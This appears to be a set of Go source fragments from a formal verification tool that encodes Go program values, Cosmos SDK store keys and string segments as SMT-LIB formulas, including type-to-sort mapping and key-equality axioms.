		for _, pp := range paths {
			if f := p.lookupFunc(pp, recv, name); f != nil {
				f.WriteTo(os.Stdout)
				for _, an := range f.AnonFuncs {
					an.WriteTo(os.Stdout)
				}
			}
		}
	}
}
