package main

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

// Segment algebra: strings / byte strings built from literals and typed variable
// pieces are kept as a list of segments so that key equality, prefix tests, parsing
// by '/' and fixed-offset slicing become QF_UF/BV formulas instead of string theory.

func litSegs(s string) []Seg {
	if s == "" {
		return []Seg{}
	}
	return []Seg{{K: "lit", Lit: s}}
}

func segsOf(v Val) []Seg {
	if v.Segs != nil {
		return v.Segs
	}
	if v.K == kTerm {
		switch v.T {
		case "emptyStr", "nilStr":
			return []Seg{}
		}
		return []Seg{{K: "any", T: v.T}}
	}
	return nil
}

func concatSegs(a, b []Seg) []Seg {
	out := make([]Seg, 0, len(a)+len(b))
	out = append(out, a...)
	for _, s := range b {
		if s.K == "lit" && len(out) > 0 && out[len(out)-1].K == "lit" {
			out[len(out)-1] = Seg{K: "lit", Lit: out[len(out)-1].Lit + s.Lit}
			continue
		}
		if s.K == "lit" && s.Lit == "" {
			continue
		}
		out = append(out, s)
	}
	return out
}

func segsConstLen(segs []Seg) (int, bool) {
	n := 0
	for _, s := range segs {
		switch s.K {
		case "lit":
			n += len(s.Lit)
		case "be64":
			n += 8
		default:
			return 0, false
		}
	}
	return n, true
}

func segsByteAt(segs []Seg, i int) (string, bool) {
	off := 0
	for _, s := range segs {
		switch s.K {
		case "lit":
			if i < off+len(s.Lit) {
				return bvLit(uint64(s.Lit[i-off]), 8), true
			}
			off += len(s.Lit)
		case "be64":
			if i < off+8 {
				k := i - off // byte k, big endian
				hi := 63 - 8*k
				return fmt.Sprintf("((_ extract %d %d) %s)", hi, hi-7, s.T), true
			}
			off += 8
		default:
			return "", false
		}
	}
	return "", false
}

// segsSub returns segs[l:h] when the cut points fall on segment boundaries or inside literals.
func segsSub(segs []Seg, l, h int) ([]Seg, bool) {
	var out []Seg
	off := 0
	for _, s := range segs {
		var n int
		switch s.K {
		case "lit":
			n = len(s.Lit)
		case "be64":
			n = 8
		default:
			if off >= h {
				return out, true
			}
			return nil, false
		}
		a, b := max(l, off), min(h, off+n)
		if a < b {
			if s.K == "lit" {
				out = append(out, Seg{K: "lit", Lit: s.Lit[a-off : b-off]})
			} else if a == off && b == off+n {
				out = append(out, s)
			} else {
				return nil, false
			}
		}
		off += n
		if off >= h {
			return out, true
		}
	}
	if off >= h {
		return out, true
	}
	return nil, false
}

func segsSuffix(segs []Seg, l int) ([]Seg, bool) {
	off := 0
	for i, s := range segs {
		var n int
		switch s.K {
		case "lit":
			n = len(s.Lit)
		case "be64":
			n = 8
		default:
			if off == l {
				return segs[i:], true
			}
			return nil, false
		}
		if l < off+n {
			if s.K == "lit" {
				out := []Seg{{K: "lit", Lit: s.Lit[l-off:]}}
				return append(out, segs[i+1:]...), true
			}
			if l == off {
				return segs[i:], true
			}
			return nil, false
		}
		off += n
	}
	if off == l {
		return []Seg{}, true
	}
	return nil, false
}

// segsTerm returns the SMT Str term denoting the concatenation.
func (e *Env) segsTerm(segs []Seg) string {
	if len(segs) == 0 {
		return "emptyStr"
	}
	if len(segs) == 1 {
		switch segs[0].K {
		case "lit":
			return e.D.strLit(segs[0].Lit)
		case "any":
			return segs[0].T
		}
	}
	var skel strings.Builder
	var args, sorts []string
	for _, s := range segs {
		switch s.K {
		case "lit":
			skel.WriteString("L" + strconv.Quote(s.Lit))
		case "any":
			skel.WriteString("A")
			args = append(args, s.T)
			sorts = append(sorts, sStr)
		case "dec":
			skel.WriteString(fmt.Sprintf("D%d%v", s.W, s.Sgn))
			args = append(args, s.T)
			sorts = append(sorts, bvSort(s.W))
		case "be64":
			skel.WriteString("B")
			args = append(args, s.T)
			sorts = append(sorts, bvSort(64))
		default:
			skel.WriteString("?" + s.K)
			args = append(args, s.T)
			sorts = append(sorts, sStr)
		}
		skel.WriteString("|")
	}
	name, ok := e.shapes[skel.String()]
	if !ok {
		name = fmt.Sprintf("shape%d", len(e.shapes))
		e.shapes[skel.String()] = name
	}
	if len(args) == 0 {
		// all literal (merged elsewhere), but be safe
		var sb strings.Builder
		for _, s := range segs {
			sb.WriteString(s.Lit)
		}
		return e.D.strLit(sb.String())
	}
	t := e.D.uf(name, sorts, sStr, args...)
	if _, seen := e.keyTerms[t]; !seen {
		e.keyTerms[t] = segs
		// length fact when every piece has an expressible length
		var parts []string
		okLen := true
		for _, s := range segs {
			switch s.K {
			case "lit":
				parts = append(parts, bvLit(uint64(len(s.Lit)), 64))
			case "be64":
				parts = append(parts, bvLit(8, 64))
			case "any":
				parts = append(parts, tApp("slen64", s.T))
			default:
				okLen = false
			}
		}
		var facts []string
		if okLen && len(parts) > 0 {
			sum := parts[0]
			if len(parts) > 1 {
				sum = "(bvadd " + strings.Join(parts, " ") + ")"
			}
			facts = append(facts, tEq(tApp("slen64", t), sum))
		} else {
			facts = append(facts, tNot(tEq(tApp("slen64", t), bvLit(0, 64))))
		}
		facts = append(facts, tNot(tEq(t, "nilStr")))
		if len(segs) == 1 && segs[0].K == "be64" {
			// big-endian decoding inverts encoding
			facts = append(facts, tEq(e.D.uf("be2u64", []string{sStr}, bvSort(64), t), segs[0].T))
		}
		e.termFacts[t] = facts
	}
	return t
}

func (e *Env) noslash(t string) string {
	return e.D.uf("noslash", []string{sStr}, sBool, t)
}

func isDigit(b byte) bool { return b >= '0' && b <= '9' }

// nextStartsNonDigit: the piece list rest begins with something that cannot be a digit, or is empty.
func nextStartsNonDigit(rest []Seg) bool {
	if len(rest) == 0 {
		return true
	}
	if rest[0].K == "lit" && len(rest[0].Lit) > 0 && !isDigit(rest[0].Lit[0]) {
		return true
	}
	return false
}

func nextStartsSlashOrEnd(rest []Seg) (end bool, ok bool) {
	if len(rest) == 0 {
		return true, true
	}
	if rest[0].K == "lit" && strings.HasPrefix(rest[0].Lit, "/") {
		return false, true
	}
	return false, false
}

// segsEqual decides A == B as a formula over the segment terms. With hyp=false
// hypotheses (noslash facts) are conjoined into an implication elsewhere; here we
// return (formula, ok) where formula already is "H => ..."-free: the caller gets
// the hypotheses through segsEqualH.
func (e *Env) segsEqual(a, b []Seg, _ bool) (string, bool) {
	f, hyps, ok := e.segsEqualH(a, b)
	if !ok {
		return "", false
	}
	if len(hyps) > 0 {
		// cannot return an unconditional formula
		return "", false
	}
	return f, true
}

func (e *Env) segsEqualH(a, b []Seg) (formula string, hyps []string, ok bool) {
	return e.segsRel(a, b, false)
}

// segsHasPrefixH decides "b is a prefix of a".
func (e *Env) segsHasPrefixH(a, b []Seg) (formula string, hyps []string, ok bool) {
	return e.segsRel(a, b, true)
}

func (e *Env) segsRel(a, b []Seg, prefixMode bool) (formula string, hyps []string, ok bool) {
	var conj []string
	a = append([]Seg(nil), a...)
	b = append([]Seg(nil), b...)
	for iter := 0; iter < 200; iter++ {
		if len(a) == 0 && len(b) == 0 {
			return tAnd(conj...), hyps, true
		}
		if prefixMode && len(b) == 0 {
			return tAnd(conj...), hyps, true
		}
		if prefixMode && len(b) == 1 && b[0].K == "lit" && len(a) > 0 && a[0].K == "lit" && len(a[0].Lit) >= len(b[0].Lit) {
			if strings.HasPrefix(a[0].Lit, b[0].Lit) {
				return tAnd(conj...), hyps, true
			}
			return "false", hyps, true
		}
		if prefixMode && len(b) == 1 && len(a) > 0 && !(b[0].K == "be64" && a[0].K == "be64") && !(b[0].K == "lit" && a[0].K == "lit") {
			// the prefix ends inside a variable-length piece: "a starts with b" is not an equality of pieces;
			// it stays an uninterpreted predicate (reflexive), nothing more is claimed
			if len(a) == 1 && a[0].K == b[0].K && a[0].T == b[0].T {
				return tAnd(conj...), hyps, true
			}
			e.D.declFun("strprefix", "(declare-fun strprefix (Str Str) Bool)")
			conj = append(conj, tApp("strprefix", e.segsTerm(a), e.segsTerm(b)))
			return tAnd(conj...), hyps, true
		}
		if len(a) == 0 || len(b) == 0 {
			rest := a
			if len(a) == 0 {
				rest = b
			}
			for _, s := range rest {
				switch s.K {
				case "any":
					conj = append(conj, tEq(tApp("slen64", s.T), bvLit(0, 64)))
				default:
					return "false", hyps, true
				}
			}
			return tAnd(conj...), hyps, true
		}
		x, y := a[0], b[0]
		switch {
		case x.K == "lit" && y.K == "lit":
			n := min(len(x.Lit), len(y.Lit))
			if x.Lit[:n] != y.Lit[:n] {
				return "false", hyps, true
			}
			if len(x.Lit) == n {
				a = a[1:]
			} else {
				a[0] = Seg{K: "lit", Lit: x.Lit[n:]}
			}
			if len(y.Lit) == n {
				b = b[1:]
			} else {
				b[0] = Seg{K: "lit", Lit: y.Lit[n:]}
			}
		case x.K == "be64" && y.K == "be64":
			conj = append(conj, tEq(x.T, y.T))
			a, b = a[1:], b[1:]
		case x.K == "be64" && y.K == "lit" && len(y.Lit) >= 8, y.K == "be64" && x.K == "lit" && len(x.Lit) >= 8:
			be, lit := x, y
			swap := false
			if y.K == "be64" {
				be, lit, swap = y, x, true
			}
			var v uint64
			for i := 0; i < 8; i++ {
				v = v<<8 | uint64(lit.Lit[i])
			}
			conj = append(conj, tEq(be.T, bvLit(v, 64)))
			restLit := lit.Lit[8:]
			if swap {
				b = b[1:]
				if restLit == "" {
					a = a[1:]
				} else {
					a[0] = Seg{K: "lit", Lit: restLit}
				}
			} else {
				a = a[1:]
				if restLit == "" {
					b = b[1:]
				} else {
					b[0] = Seg{K: "lit", Lit: restLit}
				}
			}
		case x.K == "dec" && y.K == "dec":
			if !nextStartsNonDigit(a[1:]) || !nextStartsNonDigit(b[1:]) {
				return "", nil, false
			}
			if x.W != y.W || x.Sgn != y.Sgn {
				return "", nil, false
			}
			conj = append(conj, tEq(x.T, y.T))
			a, b = a[1:], b[1:]
		case (x.K == "dec" && y.K == "lit") || (y.K == "dec" && x.K == "lit"):
			d, lit := x, y
			dRest, lRest := a[1:], b[1:]
			swap := false
			if y.K == "dec" {
				d, lit, swap = y, x, true
				dRest, lRest = b[1:], a[1:]
			}
			if !nextStartsNonDigit(dRest) || d.Sgn {
				return "", nil, false
			}
			k := 0
			for k < len(lit.Lit) && isDigit(lit.Lit[k]) {
				k++
			}
			if k == 0 {
				return "false", hyps, true
			}
			if k == len(lit.Lit) && len(lRest) > 0 {
				return "", nil, false // digits may continue into the next segment
			}
			digits := lit.Lit[:k]
			n, err := strconv.ParseUint(digits, 10, 64)
			if err != nil || strconv.FormatUint(n, 10) != digits {
				return "false", hyps, true
			}
			if d.W < 64 && n >= (1<<uint(d.W)) {
				return "false", hyps, true
			}
			conj = append(conj, tEq(d.T, bvLit(n, d.W)))
			var litRem []Seg
			if k < len(lit.Lit) {
				litRem = append([]Seg{{K: "lit", Lit: lit.Lit[k:]}}, lRest...)
			} else {
				litRem = lRest
			}
			if swap {
				a, b = litRem, dRest
			} else {
				a, b = dRest, litRem
			}
		case x.K == "any" && y.K == "any":
			endA, okA := nextStartsSlashOrEnd(a[1:])
			endB, okB := nextStartsSlashOrEnd(b[1:])
			if x.T == y.T {
				// same variable on both sides: strip
				a, b = a[1:], b[1:]
				continue
			}
			if !okA || !okB {
				return "", nil, false
			}
			switch {
			case endA && endB:
				conj = append(conj, tEq(x.T, y.T))
			case !endA && !endB:
				hyps = append(hyps, e.noslash(x.T), e.noslash(y.T))
				conj = append(conj, tEq(x.T, y.T))
			default:
				// one ends here, the other continues with "/": equal only if the ending one contains '/'
				if endA {
					hyps = append(hyps, e.noslash(x.T))
				} else {
					hyps = append(hyps, e.noslash(y.T))
				}
				return "false", hyps, true
			}
			a, b = a[1:], b[1:]
		case (x.K == "any" && y.K == "lit") || (y.K == "any" && x.K == "lit"):
			v, lit := x, y
			vRest, lRest := a[1:], b[1:]
			swap := false
			if y.K == "any" {
				v, lit, swap = y, x, true
				vRest, lRest = b[1:], a[1:]
			}
			end, okV := nextStartsSlashOrEnd(vRest)
			if !okV {
				return "", nil, false
			}
			i := strings.IndexByte(lit.Lit, '/')
			var litRem []Seg
			var tok string
			switch {
			case end && len(lRest) == 0:
				// variable is the whole remainder
				conj = append(conj, tEq(v.T, e.D.strLit(lit.Lit)))
				a, b = nil, nil
				continue
			case end:
				return "", nil, false
			case i >= 0:
				tok = lit.Lit[:i]
				litRem = append([]Seg{{K: "lit", Lit: lit.Lit[i:]}}, lRest...)
			default:
				return "", nil, false
			}
			hyps = append(hyps, e.noslash(v.T))
			conj = append(conj, tEq(v.T, e.D.strLit(tok)))
			if swap {
				a, b = litRem, vRest
			} else {
				a, b = vRest, litRem
			}
		case (x.K == "any" && y.K == "dec") || (y.K == "any" && x.K == "dec"):
			v, d := x, y
			if y.K == "any" {
				v, d = y, x
			}
			endA, okA := nextStartsSlashOrEnd(a[1:])
			endB, okB := nextStartsSlashOrEnd(b[1:])
			if !okA || !okB || endA != endB {
				return "", nil, false
			}
			if !endA {
				hyps = append(hyps, e.noslash(v.T))
			}
			conj = append(conj, tEq(v.T, e.D.uf(fmt.Sprintf("dec2str%d", d.W), []string{bvSort(d.W)}, sStr, d.T)))
			a, b = a[1:], b[1:]
		default:
			return "", nil, false
		}
	}
	return "", nil, false
}

// keyAxioms returns pairwise equality axioms for the key terms occurring in body.
func (e *Env) keyAxioms(body string) []string {
	var present []string
	for t := range e.keyTerms {
		if strings.Contains(body, t) {
			present = append(present, t)
		}
	}
	sortStrings(present)
	var out []string
	if len(present) > 40 {
		present = present[:40]
	}
	for _, t := range present {
		out = append(out, e.termFacts[t]...)
	}
	// key terms vs literal constants present in the body
	var litsPresent []string
	ids := identSet(body)
	for _, content := range e.D.litOrder {
		if ids[e.D.lits[content]] {
			litsPresent = append(litsPresent, content)
		}
	}
	for _, t := range present {
		for _, content := range litsPresent {
			f, hyps, ok := e.segsEqualH(e.keyTerms[t], litSegs(content))
			if !ok {
				continue
			}
			name := e.D.lits[content]
			ax := tEq(tEq(t, name), f)
			if f == "false" {
				ax = tNot(tEq(t, name))
			}
			out = append(out, tImplies(tAnd(hyps...), ax))
		}
	}
	for i := 0; i < len(present); i++ {
		for j := i + 1; j < len(present); j++ {
			f, hyps, ok := e.segsEqualH(e.keyTerms[present[i]], e.keyTerms[present[j]])
			if !ok {
				continue
			}
			ax := tEq(tEq(present[i], present[j]), f)
			if f == "false" {
				ax = tNot(tEq(present[i], present[j]))
			}
			out = append(out, tImplies(tAnd(hyps...), ax))
		}
	}
	// prefix facts for frames of prefix stores
	if strings.Contains(body, "(hasprefix ") {
		for _, t := range present {
			for _, pfx := range present {
				if !strings.Contains(body, "(hasprefix "+t+" "+pfx+")") && !strings.Contains(body, " "+pfx+")") {
					continue
				}
				f, hyps, ok := e.segsHasPrefixH(e.keyTerms[t], e.keyTerms[pfx])
				if !ok {
					continue
				}
				out = append(out, tImplies(tAnd(hyps...), tEq(tApp("hasprefix", t, pfx), f)))
			}
			for _, content := range litsPresent {
				// literal prefixes and literal keys
				name := e.D.lits[content]
				if f, hyps, ok := e.segsHasPrefixH(e.keyTerms[t], litSegs(content)); ok {
					out = append(out, tImplies(tAnd(hyps...), tEq(tApp("hasprefix", t, name), f)))
				}
				if f, hyps, ok := e.segsHasPrefixH(litSegs(content), e.keyTerms[t]); ok {
					out = append(out, tImplies(tAnd(hyps...), tEq(tApp("hasprefix", name, t), f)))
				}
			}
		}
	}
	// universally quantified disjointness of whole key families (needed when key terms occur under binders):
	// two shapes whose skeletons can never coincide, whatever the variable pieces are
	out = append(out, e.shapeFamilyAxioms(body)...)
	// drop facts mentioning quantifier-bound variables (they are only meaningful under their binder)
	var keep []string
	for _, f := range out {
		if strings.HasPrefix(f, "(forall (") || !e.mentionsBound(f) {
			keep = append(keep, f)
		}
	}
	return keep
}

var boundRe = regexp.MustCompile(`[A-Za-z0-9_.$]+!q[0-9]+`)

func (e *Env) mentionsBound(f string) bool {
	for _, id := range boundRe.FindAllString(f, -1) {
		if _, ok := e.D.consts[id]; !ok {
			return true
		}
	}
	return false
}

// sexprSplit splits "a b c" (top-level s-expressions) into parts.
func sexprSplit(s string) []string {
	var out []string
	i := 0
	for i < len(s) {
		for i < len(s) && (s[i] == ' ' || s[i] == '\n') {
			i++
		}
		if i >= len(s) {
			break
		}
		j := i
		if s[i] == '(' {
			d := 0
			for j < len(s) {
				if s[j] == '(' {
					d++
				} else if s[j] == ')' {
					d--
					if d == 0 {
						j++
						break
					}
				}
				j++
			}
		} else {
			for j < len(s) && s[j] != ' ' && s[j] != ')' && s[j] != '(' {
				j++
			}
		}
		out = append(out, s[i:j])
		i = j
	}
	return out
}

// skolemize strips universal quantifiers in positive position of a goal: their bound
// variables become fresh constants (the goal is negated in the query).
func (e *Env) skolemize(goal string) string {
	if strings.HasPrefix(goal, "(and ") && strings.Contains(goal, "(forall ") {
		parts := sexprSplit(goal[5 : len(goal)-1])
		for i := range parts {
			parts[i] = e.skolemize(parts[i])
		}
		return "(and " + strings.Join(parts, " ") + ")"
	}
	for {
		if strings.HasPrefix(goal, "(forall ((") {
			inner := goal[1 : len(goal)-1]
			parts := sexprSplit(inner)
			if len(parts) != 3 {
				return goal
			}
			binders := sexprSplit(parts[1][1 : len(parts[1])-1])
			for _, b := range binders {
				bp := sexprSplit(b[1 : len(b)-1])
				if len(bp) != 2 {
					return goal
				}
				if _, ok := e.D.consts[bp[0]]; !ok {
					e.D.consts[bp[0]] = bp[1]
					e.D.constOrd = append(e.D.constOrd, bp[0])
				}
			}
			goal = parts[2]
			continue
		}
		if strings.HasPrefix(goal, "(=> ") {
			parts := sexprSplit(goal[1 : len(goal)-1])
			if len(parts) == 3 && strings.HasPrefix(parts[2], "(forall ((") {
				goal = "(=> " + parts[1] + " " + e.skolemize(parts[2]) + ")"
				continue
			}
			if len(parts) == 3 && strings.HasPrefix(parts[2], "(=> ") {
				inner := e.skolemize(parts[2])
				if inner != parts[2] {
					goal = "(=> " + parts[1] + " " + inner + ")"
				}
			}
		}
		return goal
	}
}

func sortStrings(xs []string) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}

// shapeFamilyAxioms: for every pair of shape functions occurring in body whose skeletons differ in a way that
// does not depend on the variable pieces (e.g. different literal prefixes), (forall args. shapeA(..) != shapeB(..)).
func (e *Env) shapeFamilyAxioms(body string) []string {
	type fam struct {
		name string
		segs []Seg
	}
	var fams []fam
	seen := map[string]bool{}
	for t, segs := range e.keyTerms {
		i := strings.IndexByte(t, ' ')
		if !strings.HasPrefix(t, "(shape") || i < 0 {
			continue
		}
		name := t[1:i]
		if seen[name] || !strings.Contains(body, "("+name+" ") {
			continue
		}
		seen[name] = true
		fams = append(fams, fam{name, segs})
	}
	sortFams := func() {
		for i := 1; i < len(fams); i++ {
			for j := i; j > 0 && fams[j].name < fams[j-1].name; j-- {
				fams[j], fams[j-1] = fams[j-1], fams[j]
			}
		}
	}
	sortFams()
	generic := func(f fam, tag string) ([]Seg, []string, string) {
		var segs []Seg
		var binders, args []string
		n := 0
		for _, s := range f.segs {
			if s.K == "lit" {
				segs = append(segs, s)
				continue
			}
			n++
			v := fmt.Sprintf("%s%d", tag, n)
			sort := sStr
			switch s.K {
			case "dec":
				sort = bvSort(s.W)
			case "be64":
				sort = bvSort(64)
			}
			binders = append(binders, fmt.Sprintf("(%s %s)", v, sort))
			args = append(args, v)
			ns := s
			ns.T = v
			segs = append(segs, ns)
		}
		return segs, binders, "(" + f.name + " " + strings.Join(args, " ") + ")"
	}
	var out []string
	for i := 0; i < len(fams); i++ {
		a, ba, ta := generic(fams[i], "ga!q")
		for j := i + 1; j < len(fams); j++ {
			b, bb, tb := generic(fams[j], "gb!q")
			f, hyps, ok := e.segsEqualH(a, b)
			if ok && f == "false" && len(hyps) == 0 {
				out = append(out, fmt.Sprintf("(forall (%s) (not (= %s %s)))", strings.Join(append(ba, bb...), " "), ta, tb))
			}
		}
		// against literal constants present
		ids := identSet(body)
		for _, content := range e.D.litOrder {
			if !ids[e.D.lits[content]] {
				continue
			}
			f, hyps, ok := e.segsEqualH(a, litSegs(content))
			if ok && f == "false" && len(hyps) == 0 && len(ba) > 0 {
				out = append(out, fmt.Sprintf("(forall (%s) (not (= %s %s)))", strings.Join(ba, " "), ta, e.D.lits[content]))
			}
		}
	}
	return out
}

func segsAllLit(segs []Seg) (string, bool) {
	var sb strings.Builder
	for _, s := range segs {
		if s.K != "lit" {
			return "", false
		}
		sb.WriteString(s.Lit)
	}
	return sb.String(), true
}
