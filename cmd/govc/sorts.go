package main

import (
	"fmt"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type vkind int

const (
	kTerm    vkind = iota // SMT term T of sort Sort
	kPtr                  // pointer to a tracked cell
	kTuple                // multiple results (Elems)
	kRecord               // struct with Go-side fields (Elems)
	kArr                  // concrete-length array/slice (Elems)
	kStore                // KVStore handle
	kCtx                  // sdk.Context
	kClosure              // function value
	kIface                // interface with statically known dynamic value (Inner)
	kIter                 // iterator (store or range)
	kUnit
)

// Seg is one piece of a structured string / key.
type Seg struct {
	K   string // "lit", "ident", "dec", "be64", "any", "hex"
	Lit string // for lit
	T   string // SMT term (Str for ident/any; BV64 for dec/be64)
	W   int    // bit width for dec
	Sgn bool
}

type Pointer struct {
	Cell int
	Path []PathEl
	// RO marks a pointer whose cell is a temporary copy of a value loaded from a
	// struct field / symbolic pointer: writes through it are not propagated.
	RO bool
}

type PathEl struct {
	Field int    // >=0: struct field index
	Idx   string // symbolic/constant index term (BV64) when Field < 0
	CIdx  int    // constant index if >= 0
}

type StoreRef struct {
	World  int
	Comp   string
	Prefix []Seg // prefix store view
}

type IterRef struct {
	Store   *StoreRef
	Prefix  []Seg
	Key     string // current key term (Str)
	KeySegs []Seg
	Val     string
	Valid   string // Bool term
	ID      int
	// range iterators
	Over    *Val
	Visited string
}

type Val struct {
	K      vkind
	Sort   string
	T      string
	Typ    types.Type
	Ptr    *Pointer
	Elems  []Val
	Segs   []Seg
	Store  *StoreRef
	World  int
	Fn     *ssa.Function
	Bind   []Val
	Inner  *Val // kIface: dynamic value
	Iter   *IterRef
	Nil    string // for kPtr on symbolic params: Bool term "is nil" ("" = known non-nil)
	Bound  *Val   // bound method receiver
	Frozen string // kStore: term fixed at the state in which it was evaluated (old(...))
}

func termVal(t types.Type, sort, term string) Val { return Val{K: kTerm, Typ: t, Sort: sort, T: term} }

// ---------------------------------------------------------------------------

type sorter struct {
	d        *Decls
	names    map[string]string // types.Type string -> sort name
	inProg   map[string]bool
	used     map[string]int
	fieldsOf map[string][]fieldInfo
}

type fieldInfo struct {
	Name string
	Sort string
	Typ  types.Type
	Sel  string
}

func newSorter(d *Decls) *sorter {
	return &sorter{d: d, names: map[string]string{}, inProg: map[string]bool{}, used: map[string]int{}, fieldsOf: map[string][]fieldInfo{}}
}

func mangleSort(s string) string {
	s = strings.ReplaceAll(s, "(_ BitVec ", "bv")
	s = strings.ReplaceAll(s, "(Array ", "Arr_")
	s = strings.ReplaceAll(s, ")", "")
	s = strings.ReplaceAll(s, " ", "_")
	return smtSym(s)
}

func isNamed(t types.Type, pkg, name string) bool {
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	o := n.Obj()
	return o.Name() == name && o.Pkg() != nil && o.Pkg().Path() == pkg
}

const (
	sdkTypes = "github.com/cosmos/cosmos-sdk/types"
)

func isCtxType(t types.Type) bool { return isNamed(t, sdkTypes, "Context") }
func isMathInt(t types.Type) bool {
	return isNamed(t, sdkTypes, "Int") || isNamed(t, sdkTypes, "Dec") || isNamed(t, "math/big", "Int") || isNamed(t, sdkTypes, "Uint")
}

func isByteElem(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Uint8)
}

func (s *sorter) sortOf(t types.Type) string {
	if t == nil {
		return "Unit"
	}
	if isCtxType(t) {
		s.d.declSort("Ctx")
		return "Ctx"
	}
	if isMathInt(t) {
		return sInt
	}
	if isNamed(t, "time", "Time") {
		s.d.declSort("Time")
		return "Time"
	}
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case u.Info()&types.IsBoolean != 0:
			return sBool
		case u.Info()&types.IsString != 0:
			return sStr
		case u.Info()&types.IsInteger != 0:
			return bvSort(intWidth(u))
		case u.Kind() == types.UntypedNil:
			return sIface
		default:
			n := "Opaque_" + smtSym(u.Name())
			s.d.declSort(n)
			return n
		}
	case *types.Slice:
		if isByteElem(u.Elem()) {
			return sStr
		}
		return s.sliceSort(s.sortOf(u.Elem()))
	case *types.Array:
		if isByteElem(u.Elem()) {
			return sStr
		}
		return s.sliceSort(s.sortOf(u.Elem()))
	case *types.Pointer:
		if isMathInt(u.Elem()) {
			return s.optSort(sInt)
		}
		return s.optSort(s.sortOf(u.Elem()))
	case *types.Interface:
		return sIface
	case *types.Struct:
		return s.structSort(t, u)
	case *types.Map:
		return s.mapSort(s.sortOf(u.Key()), s.sortOf(u.Elem()))
	case *types.Signature:
		s.d.declSort("Func")
		return "Func"
	case *types.Tuple:
		return "Unit"
	default:
		n := "Opaque_" + smtSym(t.String())
		s.d.declSort(n)
		return n
	}
}

func intWidth(b *types.Basic) int {
	switch b.Kind() {
	case types.Int8, types.Uint8:
		return 8
	case types.Int16, types.Uint16:
		return 16
	case types.Int32, types.Uint32:
		return 32
	default:
		return 64
	}
}

func isSigned(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsInteger != 0 && b.Info()&types.IsUnsigned == 0
}

func (s *sorter) sliceSort(elem string) string {
	n := "Slice_" + mangleSort(elem)
	if !s.d.dtSeen[n] {
		s.d.dtSeen[n] = true
		s.d.datatypes = append(s.d.datatypes, fmt.Sprintf("(declare-datatypes ((%s 0)) (((mk_%s (len_%s (_ BitVec 64)) (arr_%s (Array (_ BitVec 64) %s))))))", n, n, n, n, elem))
	}
	return n
}

func sliceElemSort(d *Decls, sliceSort string) string {
	// recover from declaration text
	for _, dt := range d.datatypes {
		pfx := "(declare-datatypes ((" + sliceSort + " 0))"
		if strings.HasPrefix(dt, pfx) {
			i := strings.Index(dt, "(Array (_ BitVec 64) ")
			rest := dt[i+len("(Array (_ BitVec 64) "):]
			// strip trailing "))))))"
			return strings.TrimSuffix(rest, "))))))")
		}
	}
	return ""
}

func (s *sorter) optSort(elem string) string {
	n := "Opt_" + mangleSort(elem)
	if !s.d.dtSeen[n] {
		s.d.dtSeen[n] = true
		s.d.datatypes = append(s.d.datatypes, fmt.Sprintf("(declare-datatypes ((%s 0)) (((none_%s) (some_%s (val_%s %s)))))", n, n, n, n, elem))
	}
	return n
}

func (s *sorter) mapSort(k, v string) string {
	n := "Map_" + mangleSort(k) + "_" + mangleSort(v)
	if !s.d.dtSeen[n] {
		s.d.dtSeen[n] = true
		s.d.datatypes = append(s.d.datatypes, fmt.Sprintf("(declare-datatypes ((%s 0)) (((mk_%s (dom_%s (Array %s Bool)) (val_%s (Array %s %s))))))", n, n, n, k, n, k, v))
	}
	return n
}

func (s *sorter) structSort(t types.Type, u *types.Struct) string {
	key := t.String()
	if n, ok := s.names[key]; ok {
		if s.inProg[n] {
			r := "Ref_" + n
			s.d.declSort(r)
			return r
		}
		return n
	}
	var base string
	if nt, ok := t.(*types.Named); ok {
		p := ""
		if nt.Obj().Pkg() != nil {
			parts := strings.Split(nt.Obj().Pkg().Path(), "/")
			if len(parts) >= 2 {
				p = parts[len(parts)-2] + "_" + parts[len(parts)-1]
			} else {
				p = parts[len(parts)-1]
			}
		}
		base = "S_" + smtSym(p) + "_" + smtSym(nt.Obj().Name())
	} else {
		base = "S_anon"
	}
	s.used[base]++
	n := base
	if s.used[base] > 1 {
		n = fmt.Sprintf("%s_%d", base, s.used[base])
	}
	s.names[key] = n
	s.inProg[n] = true
	var fis []fieldInfo
	var fdecl []string
	for i := 0; i < u.NumFields(); i++ {
		f := u.Field(i)
		fs := s.sortOf(f.Type())
		sel := fmt.Sprintf("%s.%s", n, smtSym(f.Name()))
		if f.Name() == "_" {
			sel = fmt.Sprintf("%s._%d", n, i)
		}
		fis = append(fis, fieldInfo{Name: f.Name(), Sort: fs, Typ: f.Type(), Sel: sel})
		fdecl = append(fdecl, fmt.Sprintf("(%s %s)", sel, fs))
	}
	delete(s.inProg, n)
	s.fieldsOf[n] = fis
	s.d.structOf[n] = u
	if len(fdecl) == 0 {
		s.d.datatypes = append(s.d.datatypes, fmt.Sprintf("(declare-datatypes ((%s 0)) (((mk_%s))))", n, n))
	} else {
		s.d.datatypes = append(s.d.datatypes, fmt.Sprintf("(declare-datatypes ((%s 0)) (((mk_%s %s))))", n, n, strings.Join(fdecl, " ")))
	}
	s.d.dtSeen[n] = true
	return n
}

func (s *sorter) fields(sort string) []fieldInfo { return s.fieldsOf[sort] }
