package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

type PropConfig struct {
	ID        string            `json:"id"`
	Packages  []string          `json:"packages"`
	Functions []string          `json:"functions"` // "<pkg rel path>.<contract key>"
	StoreKeys map[string]string `json:"store_keys"`
	CompSorts map[string]string `json:"comp_sorts"`
	Level     string            `json:"level"`
	Refines   []RefineRule      `json:"refines"` // lemma layer: which operations a trusted ghost transition stands for
	Inventory []InventoryRule   `json:"inventory"`
	Assume    []string          `json:"assumptions"`
	Bounded   []BoundedCheck    `json:"bounded"`
	Impls     []ImplCheck       `json:"impls"`  // implementations to be checked against interface contracts
	Replay    map[string]string `json:"replay"` // obligation-name regexp -> replay adapter
	Notes     string            `json:"notes"`
}

type InventoryRule struct {
	Name       string         `json:"name"`
	Kind       string         `json:"kind"`    // "writers" | "deleters" | "callers"
	Family     string         `json:"family"`  // key builder function (qualified) or callee
